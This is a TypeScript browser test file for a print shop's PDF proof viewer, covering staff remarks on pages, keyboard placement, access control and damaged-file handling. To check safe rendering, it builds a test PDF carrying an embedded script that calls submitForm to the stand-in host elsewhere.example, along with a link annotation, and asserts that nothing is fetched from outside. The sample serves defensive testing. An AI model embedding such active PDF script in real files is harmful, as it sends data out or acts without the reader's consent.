import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import { adminApi } from '#kernel/admin-paths.ts';
import { API } from '#kernel/api.ts';
import { proofPath } from '#kernel/order-paths.ts';
import type { FileStore } from '#platform/files/file-store.ts';
import { openAdmin } from '#test/browser/admin.ts';
import { expectAccessible } from '#test/browser/axe.ts';
import { openBrowser, waitForHydration } from '#test/browser/browser.ts';
import { prepareSite } from '#test/browser/prepare-site.ts';
import { loadParts, startSite } from '#test/built-shop.ts';
import { post } from '#test/cart-calls.ts';
import { insertShippingAddress } from '#test/charged-shop.ts';
import { createFolder } from '#test/create-folder.ts';
import { placeOrder } from '#test/order-calls.ts';
import { makeCleanBook } from '#test/pdfs/book.ts';
import { preparePeople } from '#test/prepare-people.ts';
import { createPrintJob, FACTS } from '#test/print-samples.ts';
import { readValue } from '#test/read-rows.ts';
import { TEST_SECRET } from '#test/site.ts';

let files: FileStore;
const folder = createFolder();
const { site, visitAs } = prepareSite(async () => {
  const { createFolderStore } = await loadParts();
  files = createFolderStore(folder, { secret: TEST_SECRET, origin: 'http://shop.test' });
  return startSite({ files });
});
const people = preparePeople(site);
/** 120 pages with a 3 mm bleed, whose file tries to run a script, follow links and prompt for input. */
let book: Buffer;
beforeAll(async () => {
  book = await addActiveContent(await makeCleanBook(120));
});

const POINTS = 72 / 25.4;
const BLEED = 3 * POINTS;

async function addActiveContent(clean: Uint8Array): Promise<Buffer> {
  const file = await PDFDocument.load(clean);
  for (const page of file.getPages()) {
    const { width, height } = page.getSize();
    page.setMediaBox(-BLEED, -BLEED, width + 2 * BLEED, height + 2 * BLEED);
    page.setCropBox(-BLEED, -BLEED, width + 2 * BLEED, height + 2 * BLEED);
    page.setTrimBox(0, 0, width, height);
  }
  const script = 'app.alert("boo"); this.submitForm("https://elsewhere.example/");';
  file.addJavaScript('boo', script);
  file.getForm().createTextField('boo').addToPage(file.getPage(1), { x: 60, y: 60, width: 90, height: 20 });
  const link = file.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 400, 600],
    Border: [0, 0, 0],
    A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://elsewhere.example/') },
  });
  file.getPage(1).node.set(PDFName.of('Annots'), file.context.obj([file.context.register(link)]));
  return Buffer.from(await file.save());
}

async function placePrintOrder(bytes: Buffer) {
  const { alice } = people;
  await insertShippingAddress(site.db, alice, 'US', 'NY');
  const printJobId = await createPrintJob(alice, site);
  const added = await alice.inject(post('print-job', { printJobId }));
  expect(added.statusCode, added.body).toBe(200);
  const { code, lines } = await placeOrder(alice);
  await site.db.query(`UPDATE orders SET state = 'paid', paid_at = now() WHERE code = $1`, [code]);
  const line = lines[0]?.id ?? '';
  const [print] = await site.db.query<{ id: string; file: string }>(
    'SELECT u.id, u.file FROM order_prints p JOIN print_uploads u ON u.id = p.upload_id WHERE p.line_id = $1',
    [line],
  );
  const { id: upload = '', file = '' } = print ?? {};
  await files.put(file, bytes, 'application/pdf');
  const cut = [0, 0, 148 * POINTS, 210 * POINTS];
  const facts = { ...FACTS, hasScripts: true, pages: FACTS.pages.map((page) => ({ ...page, cut })) };
  await site.db.query('UPDATE print_uploads SET facts = $2::text::jsonb WHERE id = $1', [
    ...[upload, JSON.stringify(facts)],
  ]);
  return { code, line, upload };
}

const picture = (page: Page, number: number) =>
  page.getByRole('img', { name: `Page ${number}`, exact: true });
async function expectDrawn(page: Page, number: number): Promise<void> {
  const there = page
    .locator('[data-drawn="there"]')
    .getByRole('img', { name: `Page ${number}`, exact: true });
  const ink = await there.evaluate((element) => {
    const canvas = element.querySelector('canvas') as HTMLCanvasElement;
    const copy = document.createElement('canvas');
    Object.assign(copy, { width: 200, height: 280 });
    const context = copy.getContext('2d');
    context?.drawImage(canvas, 0, 0, 200, 280);
    const { data = new Uint8ClampedArray() } = context?.getImageData(0, 0, 200, 280) ?? {};
    return data.filter((value, at) => at % 4 === 0 && value < 200).length;
  });
  expect(ink).toBeGreaterThan(50);
}

test('a binder pins remarks on a page by pointer and keyboard, and the buyer finds them', {
  timeout: 240_000,
}, async () => {
  const { code, line } = await placePrintOrder(book);
  const { page, leave } = await openAdmin(await openBrowser(), site, 'production', {
    path: `/admin/proofs/${code}/${line}`,
  });
  const requestedHosts: string[] = [];
  page.on('request', (request) => requestedHosts.push(new URL(request.url()).host));
  await expectDrawn(page, 1);
  await page.getByText('Page 1 after trimming: 148 × 210 mm').waitFor();
  await page.getByRole('button', { name: 'Next page' }).click();
  await expectDrawn(page, 2);
  await expectAccessible(page, { where: 'pages of a print in the admin' });
  const sheet = page.getByRole('application', { name: 'Choose a position on page 2' });
  expect(await picture(page, 2).locator('a, input, iframe, object').count()).toBe(0);

  const box = (await sheet.boundingBox()) ?? expect.fail('The page is not seen.');
  await page.mouse.click(box.x + box.width * 0.25, box.y + box.height * 0.1);
  await expect.poll(() => page.getByLabel('Position', { exact: true }).inputValue()).toBe('page');
  expect(Number(await page.getByLabel('From the left (mm)').inputValue())).toBeCloseTo(37, 0);
  expect(Number(await page.getByLabel('From the top (mm)').inputValue())).toBeCloseTo(21, 0);
  const remarkField = page.getByRole('textbox', { name: 'Remark' });
  expect(await remarkField.evaluate((element) => element === document.activeElement)).toBe(true);
  const remarks = page.getByRole('listitem');
  const pin = page.getByRole('button', { name: 'Add remark' });
  const gate = Promise.withResolvers<void>();
  await page.route('**/remarks', (route) => gate.promise.then(() => route.continue()));
  await remarkField.fill('The heading stands too high.');
  await pin.click();
  // Text and a place entered while a remark is being sent belong to the next one.
  await remarkField.fill('This line');
  await page.getByLabel('From the left (mm)').fill('50');
  gate.resolve();
  await remarks.filter({ hasText: 'Page 2, 37 mm from the left and 21 mm from the top' }).waitFor();
  expect(await remarkField.inputValue()).toBe('This line');
  expect(await page.getByLabel('From the left (mm)').inputValue()).toBe('50');

  await sheet.focus();
  await page.keyboard.press('PageDown');
  await expectDrawn(page, 3);
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Shift+ArrowDown');
  await page.keyboard.press('Enter');
  await page.keyboard.type(' is set too wide.');
  await pin.click();
  await remarks.filter({ hasText: 'Page 3, 75 mm from the left and 115 mm from the top' }).waitFor();
  await page.getByText('This line is set too wide.', { exact: true }).waitFor();
  await expect.poll(() => remarkField.inputValue()).toBe('');
  await page.getByRole('button', { name: 'Show page 2' }).click();
  await expectDrawn(page, 2);

  await page.getByLabel('Position', { exact: true }).selectOption('page');
  await page.getByLabel('Page', { exact: true }).first().waitFor();
  const x = page.getByLabel('From the left (mm)');
  await x.fill('12');
  expect(await x.evaluate((element) => element === document.activeElement)).toBe(true);

  await page.getByRole('button', { name: 'Send proof' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Send proof' }).click();
  await page.getByText('With the customer').first().waitFor();
  expect([...new Set(requestedHosts)]).toEqual([new URL(site.origin).host]);
  await leave();

  const alice = await visitAs(people.alice, { viewport: { width: 820, height: 1180 } });
  const loaded: string[] = [];
  alice.page.on('request', (request) => loaded.push(request.url()));
  await alice.page.goto(site.origin + proofPath(code, line));
  await waitForHydration(alice.page);
  await alice.page.getByText('Page 2, 37 mm from the left and 21 mm from the top').waitFor();
  expect(loaded.filter((url) => /pdfjs|pdf\.worker|proofs\/.*\/file/.test(url))).toEqual([]);
  await alice.page.getByRole('button', { name: 'Show page 3' }).click();
  await expectDrawn(alice.page, 3);
  await expectAccessible(alice.page, { where: 'a page with remarks, for its buyer' });
  await alice.leave();
});

test('a print file is read in ranges, by staff with permission and its owner only', async () => {
  const { code, line, upload } = await placePrintOrder(book);
  const { page, leave } = await openAdmin(await openBrowser(), site, 'production', {
    width: 820,
    height: 1180,
  });
  const url = `${site.origin}${adminApi('proofs', code, line, 'file')}`;
  const part = await page.request.get(url, { headers: { range: 'bytes=0-99' } });
  expect([part.status(), part.headers()['content-range'], (await part.body()).length]).toEqual([
    ...[206, `bytes 0-99/${book.length}`, 100],
  ]);
  expect((await site.app.inject(adminApi('proofs', code, line, 'file'))).statusCode).toBe(401);
  const theirs = `${API.orders}/${code}/proofs/${line}/file`;
  expect((await people.alice.inject(theirs)).statusCode).toBe(302);
  expect((await people.bob.inject(theirs)).statusCode).toBe(404);

  const file = await readValue(site.db, 'SELECT file FROM print_uploads WHERE id = $1', [upload]);
  await files.put(file, Buffer.from('%PDF-1.7\nnothing of it is there'), 'application/pdf');
  await page.goto(`${site.origin}/admin/proofs/${code}/${line}`);
  await page.getByRole('alert').getByText('This PDF is damaged', { exact: false }).waitFor();
  await page.getByLabel('Position', { exact: true }).selectOption('page');
  await page.getByLabel('From the left (mm)').fill('20');
  await page.getByRole('textbox', { name: 'Remark' }).fill('A stain.');
  await page.getByRole('button', { name: 'Add remark' }).click();
  await page.getByText(/^Page 1, 20 mm from the left and 0 mm from the top/).waitFor();
  await files.put(file, book, 'application/pdf');
  await page.getByRole('button', { name: 'Try again' }).click();
  await expectDrawn(page, 1);
  await expectAccessible(page, { where: 'pages of a print on a tablet' });
  await leave();
});
